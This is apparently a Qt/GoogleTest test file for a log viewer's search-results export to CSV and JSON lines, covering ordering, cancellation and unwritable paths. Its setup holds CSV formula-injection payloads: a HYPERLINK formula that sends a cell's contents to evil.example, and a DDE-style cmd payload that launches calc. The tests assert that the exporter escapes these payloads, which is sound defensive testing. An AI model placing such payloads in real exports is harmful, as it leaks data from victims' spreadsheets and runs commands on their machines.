// Export of the search results over a real database: File > Export Results… writes exactly the
// events of the search shown (and only those) newest first as RFC 4180 CSV with the formula
// guard, even when the analyst searches on meanwhile; JSON lines are what `vigiectl search`
// prints (eventToJson) line for line; a cancelled export leaves no file; a path that cannot be
// written gives a clear error and no file.
#include "gui_test_support.h"
#include "support/test_database.h"

#include "engine_status.h"
#include "event/event_json.h"
#include "event_export_job.h"
#include "event_table_model.h"
#include "export_controller.h"
#include "export_strip.h"
#include "language_switcher.h"
#include "main_window.h"
#include "store/event_search.h"

#include <QAction>
#include <QFile>
#include <QFileDialog>
#include <QMenu>
#include <QMenuBar>
#include <QPushButton>
#include <QSignalSpy>
#include <QTemporaryDir>

using namespace vigie;
using models::ExportFormat;

namespace {

// The records of an RFC 4180 file, each split into its fields.
QList<QStringList> readCsv(const QByteArray& bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList fields{QString()};
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"'))
                fields.last() += text.at(++i);
            else if (c == QLatin1Char('"'))
                quoted = false;
            else
                fields.last() += c;
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            fields << QString();
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('\n')) {
            ++i;
            records << fields;
            fields = QStringList{QString()};
        } else {
            fields.last() += c;
        }
    }
    EXPECT_EQ(fields, QStringList{QString()}) << "the file must end with CRLF";
    return records;
}

// What a text cell holds once the formula guard is applied.
QString guarded(const QString& text)
{
    return !text.isEmpty() && QStringLiteral("=+-@\t\r").contains(text.front()) ? QLatin1Char('\'') + text
                                                                                : text;
}

QByteArray readAll(const QString& path)
{
    QFile file(path);
    EXPECT_TRUE(file.open(QIODevice::ReadOnly)) << path.toStdString();
    return file.readAll();
}

class ExportTest : public ::testing::Test {
protected:
    void SetUp() override
    {
        QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates));
        engine_ = test::startEngine(db_.conninfo());
        test::submitSampleHistory(*engine_, total_, std::chrono::milliseconds(1000));
        // Cells an exporter gets wrong: formulas, quotes and commas, line breaks, UTF-8.
        const QDateTime base = QDateTime::currentDateTimeUtc().addSecs(-600);
        const char* messages[] = {
            R"(=HYPERLINK("http://evil.example/?q="&A1,"Click me"))",
            R"(user "bob", from 10.0.0.1, said: hi)",
            "échec de connexion: ログイン失敗 🔒",
            "line one\nline two",
            "-- MARK --",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        };
        int n = 0;
        for (const char* message : messages) {
            const std::string line =
                "<13>1 " +
                base.addSecs(n++).toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss.zzzZ")).toStdString() +
                " quirky app - - - " + message;
            engine_->submit(line, parse::Format::Auto);
        }
        ASSERT_TRUE(test::waitStored(*engine_, total_ + std::size(messages)));
    }

    void TearDown() override
    {
        engine_->stop();
        QLocale::setDefault(QLocale::system());
    }

    // The window, reading the test database, showing `search`.
    std::unique_ptr<widgets::MainWindow> openWindow(const models::EventSearch& search)
    {
        auto window = std::make_unique<widgets::MainWindow>(&status_, &languages_);
        window->openEvents(QString::fromStdString(db_.conninfo()));
        EXPECT_FALSE(window->eventModel()->setSearch(search).has_value());
        window->exportController()->setPageSize(7); // many pages
        return window;
    }

    // Waits until the running export ends; true when it finished.
    static bool waitForEnd(widgets::ExportController* exports)
    {
        QSignalSpy ended(exports, &widgets::ExportController::exportEnded);
        if (exports->currentJob() && !ended.wait(60000))
            return false;
        return !exports->currentJob();
    }

    // The matching rows, newest first, as the CSV shows them (time, host, app, severity,
    // message, raw).
    QList<QStringList> expectedRows(const QString& where) const
    {
        QList<QStringList> rows;
        for (const auto& row : test::queryRows(
                 db_.conninfo(),
                 QStringLiteral(
                     "SELECT to_char(ts AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.MS\"Z\"'), host, "
                     "app, coalesce(severity::text, ''), message, raw FROM events WHERE ") +
                     where + QStringLiteral(" ORDER BY ts DESC, id DESC")))
            rows << QStringList{row[0].toString(), guarded(row[1].toString()), guarded(row[2].toString()),
                                row[3].toString(), guarded(row[4].toString()), guarded(row[5].toString())};
        return rows;
    }

    test::TestDatabase db_{"gui_export"};
    std::unique_ptr<ingest::Engine> engine_;
    models::EngineStatus status_;
    widgets::LanguageSwitcher languages_;
    const int total_ = 1200;
    QTemporaryDir dir_;
};

TEST_F(ExportTest, FileExportWritesExactlyTheShownSearchAsCsvNewestFirst)
{
    const models::EventSearch search{QStringLiteral("host:web-01 or host:quirky"), std::nullopt,
                                     std::nullopt};
    auto window = openWindow(search);
    widgets::ExportController* exports = window->exportController();

    // File > Export Results… (Ctrl+E) opens the save dialog with both formats.
    QAction* action = exports->exportAction();
    EXPECT_EQ(action->shortcut(), QKeySequence(Qt::CTRL | Qt::Key_E));
    EXPECT_TRUE(window->menuBar()->findChild<QMenu*>(QStringLiteral("fileMenu"))->actions().contains(action));
    ASSERT_TRUE(action->isEnabled());
    action->trigger();
    QFileDialog* dialog = exports->openDialog();
    ASSERT_NE(dialog, nullptr);
    EXPECT_EQ(dialog->acceptMode(), QFileDialog::AcceptSave);
    EXPECT_EQ(dialog->nameFilters(),
              (QStringList{QStringLiteral("CSV (*.csv)"), QStringLiteral("JSON lines (*.jsonl)")}));
    // The suggested name follows the format picked in the dialog.
    ASSERT_TRUE(dialog->selectedFiles().value(0).endsWith(QStringLiteral(".csv")));
    Q_EMIT dialog->filterSelected(QStringLiteral("JSON lines (*.jsonl)"));
    EXPECT_TRUE(dialog->selectedFiles().value(0).endsWith(QStringLiteral(".jsonl")))
        << dialog->selectedFiles().value(0).toStdString();
    Q_EMIT dialog->filterSelected(QStringLiteral("CSV (*.csv)"));
    const QString path = dir_.filePath(QStringLiteral("web-01.csv"));
    dialog->selectFile(path);
    static_cast<QDialog*>(dialog)->accept(); // protected in QFileDialog
    ASSERT_NE(exports->currentJob(), nullptr) << "accepting the dialog starts the export";
    EXPECT_FALSE(action->isEnabled()) << "one export at a time";
    EXPECT_EQ(exports->currentJob()->format(), ExportFormat::Csv);
    // The analyst searches on: the export keeps the search it started with.
    window->eventModel()->setSearch({QStringLiteral("host:web-02"), std::nullopt, std::nullopt});
    EXPECT_EQ(exports->currentJob()->search(), search);
    ASSERT_TRUE(waitForEnd(exports));

    EXPECT_FALSE(QFile::exists(path + QStringLiteral(".part")));
    const QList<QStringList> records = readCsv(readAll(path));
    ASSERT_FALSE(records.isEmpty());
    EXPECT_EQ(records.first().join(QLatin1Char(',')),
              QStringLiteral("time,host,app,severity,category,action,outcome,user_name,source_ip,source_port,"
                             "dest_ip,dest_port,message,raw"));
    const QList<QStringList> expected = expectedRows(QStringLiteral("host IN ('web-01', 'quirky')"));
    ASSERT_GT(expected.size(), 150);
    ASSERT_EQ(records.size() - 1, expected.size());
    for (qsizetype i = 0; i < expected.size(); ++i) {
        const QStringList& r = records.at(i + 1);
        ASSERT_EQ(r.size(), 14) << "row " << i;
        EXPECT_EQ((QStringList{r[0], r[1], r[2], r[3], r[12], r[13]}), expected.at(i)) << "row " << i;
    }
    // The hostile and awkward cells, as a spreadsheet will read them.
    const QByteArray bytes = readAll(path);
    EXPECT_TRUE(bytes.contains(R"x(,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")",)x"));
    EXPECT_TRUE(bytes.contains(R"(,"user ""bob"", from 10.0.0.1, said: hi",)"));
    EXPECT_TRUE(bytes.contains("échec de connexion: ログイン失敗 🔒"));
    EXPECT_TRUE(bytes.contains(",'-- MARK --,"));
    EXPECT_TRUE(bytes.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"));

    const widgets::ExportStrip* strip =
        window->findChild<widgets::ExportStrip*>(QStringLiteral("exportStrip"));
    ASSERT_NE(strip, nullptr);
    EXPECT_TRUE(strip->summaryText().contains(QLocale().toString(expected.size())));
    EXPECT_TRUE(strip->summaryText().contains(path)) << strip->summaryText().toStdString();
    EXPECT_FALSE(strip->isProblemShown());
    // The count made up front for the progress bar was right.
    EXPECT_TRUE(strip->detailText().startsWith(QStringLiteral("%1 of about %1 events").arg(expected.size())))
        << strip->detailText().toStdString();
    EXPECT_TRUE(action->isEnabled());
    if (const QString shots = qEnvironmentVariable("VIGIE_SCREENSHOT_DIR"); !shots.isEmpty()) {
        window->show();
        QTest::qWait(300);
        window->grab().save(shots + QStringLiteral("/export_done.png"));
    }
}

TEST_F(ExportTest, JsonLinesAreWhatVigiectlSearchPrints)
{
    const QDateTime now = QDateTime::currentDateTimeUtc();
    const models::EventSearch search{QStringLiteral("severity<=3 and not host:web-04"),
                                     now.addSecs(-3000).toMSecsSinceEpoch() * 1000,
                                     now.addSecs(-120).toMSecsSinceEpoch() * 1000};
    auto window = openWindow(search);
    widgets::ExportController* exports = window->exportController();
    const QString path = dir_.filePath(QStringLiteral("low.jsonl"));
    EXPECT_EQ(widgets::ExportController::formatForPath(path, ExportFormat::Csv), ExportFormat::JsonLines);
    ASSERT_NE(exports->exportTo(path, ExportFormat::JsonLines), nullptr);
    ASSERT_TRUE(waitForEnd(exports));

    // vigiectl search: store::EventSearch pages through eventToJson.
    store::PgConnection db(db_.conninfo());
    store::EventSearch events(db);
    const auto page = events.page(search.toRequest(100000));
    ASSERT_GT(page.events.size(), 100u);
    std::string expected;
    for (const Event& event : page.events)
        expected += eventToJson(event) + '\n';
    EXPECT_EQ(readAll(path).toStdString(), expected);
}

TEST_F(ExportTest, CancelledExportLeavesNoFile)
{
    auto window = openWindow({});
    widgets::ExportController* exports = window->exportController();
    exports->setPageSize(1); // a page per event: long enough to cancel in the middle
    const QString path = dir_.filePath(QStringLiteral("all.csv"));
    models::EventExportJob* job = exports->exportTo(path, ExportFormat::Csv);
    ASSERT_NE(job, nullptr);
    widgets::ExportStrip* strip = exports->strip();
    // Cancel from the strip once rows are being written.
    quint64 rowsAtCancel = 0;
    QObject::connect(job, &models::EventExportJob::progress, strip, [strip, &rowsAtCancel](quint64 rows) {
        if (rows > 0 && strip->cancelButton()->isEnabled()) {
            rowsAtCancel = rows;
            if (const QString shots = qEnvironmentVariable("VIGIE_SCREENSHOT_DIR"); !shots.isEmpty())
                strip->grab().save(shots + QStringLiteral("/export_running.png"));
            strip->cancelButton()->click();
        }
    });
    QSignalSpy cancelled(job, &models::EventExportJob::cancelled);
    QSignalSpy finished(job, &models::EventExportJob::finished);
    ASSERT_TRUE(waitForEnd(exports));
    EXPECT_GT(rowsAtCancel, 0u);
    EXPECT_LT(rowsAtCancel, static_cast<quint64>(total_)); // in the middle
    EXPECT_EQ(cancelled.size(), 1);
    EXPECT_EQ(finished.size(), 0);
    EXPECT_FALSE(QFile::exists(path));
    EXPECT_FALSE(QFile::exists(path + QStringLiteral(".part")));
    EXPECT_EQ(strip->summaryText(), QStringLiteral("Export cancelled: no file was written."));

    // Cancelled at once, over an older export of the same name: that file stays as it was.
    {
        QFile old(path);
        ASSERT_TRUE(old.open(QIODevice::WriteOnly));
        old.write("previous export\r\n");
    }
    ASSERT_NE(exports->exportTo(path, ExportFormat::Csv), nullptr);
    exports->cancel();
    ASSERT_TRUE(waitForEnd(exports));
    EXPECT_EQ(readAll(path), QByteArray("previous export\r\n"));
    EXPECT_FALSE(QFile::exists(path + QStringLiteral(".part")));
}

TEST_F(ExportTest, PathThatCannotBeWrittenSaysWhy)
{
    auto window = openWindow({});
    widgets::ExportController* exports = window->exportController();
    const QString path = dir_.filePath(QStringLiteral("no-such-folder/events.csv"));
    models::EventExportJob* job = exports->exportTo(path, ExportFormat::Csv);
    ASSERT_NE(job, nullptr);
    QSignalSpy failed(job, &models::EventExportJob::failed);
    ASSERT_TRUE(waitForEnd(exports));
    ASSERT_EQ(failed.size(), 1);
    const QString message = failed.at(0).at(0).toString();
    EXPECT_TRUE(message.startsWith(QStringLiteral("Cannot create ") + path)) << message.toStdString();
    EXPECT_TRUE(message.contains(QStringLiteral("No such file or directory"))) << message.toStdString();
    EXPECT_TRUE(exports->strip()->isProblemShown());
    EXPECT_EQ(exports->strip()->summaryText(), QStringLiteral("Export failed: ") + message);
    EXPECT_FALSE(QFile::exists(path));
}

TEST_F(ExportTest, NothingToExportBeforeADatabaseIsOpen)
{
    widgets::MainWindow window(&status_, &languages_);
    EXPECT_FALSE(window.exportController()->exportAction()->isEnabled());
    EXPECT_EQ(window.exportController()->exportTo(dir_.filePath(QStringLiteral("x.csv")), ExportFormat::Csv),
              nullptr);
}

} // namespace
